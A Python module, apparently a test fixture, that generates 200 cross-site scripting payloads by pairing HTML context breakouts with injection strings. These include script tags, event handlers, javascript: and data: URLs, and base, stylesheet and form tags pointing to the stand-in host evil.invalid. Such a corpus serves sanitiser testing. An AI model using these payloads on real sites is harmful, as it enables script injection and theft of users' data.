"""200 ways to make a page run what a source says, made of what breaks out and what is run."""

from __future__ import annotations

from itertools import product

_OUT = (
    "", '">', "'>", "-->", "</title>", "</textarea>", "]]>", "</script>", '" ', "' ",
)  # fmt: skip
_RUN = (
    "<script>fired()</script>",
    "<img src=x onerror=fired()>",
    "<svg/onload=fired()>",
    "<iframe src=javascript:parent.fired()></iframe>",
    "<a href=javascript:fired()>x</a>",
    "autofocus onfocus=fired() x=",
    "<details open ontoggle=fired()>",
    "<input autofocus onfocus=fired()>",
    "<style>*{background:url(javascript:fired())}</style>",
    "<meta http-equiv=refresh content='0;url=javascript:fired()'>",
    "<object data=javascript:fired()></object>",
    "<math><mi xlink:href=javascript:fired()>x</mi></math>",
    "<base href=//evil.invalid/>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<form action=//evil.invalid><button>x</button></form>",
    "javascript:fired()//",
    "data:text/html,<script>fired()</script>",
    "{{ 7*7 }}${fired()}{% raw %}",
    "&lt;script&gt;fired()&lt;/script&gt;",
    "\u202e\u2066<b>\u2069\u202c\ufdd0\ufdd1",
)

PAYLOADS = tuple(out + run for out, run in product(_OUT, _RUN))
assert len(set(PAYLOADS)) == 200
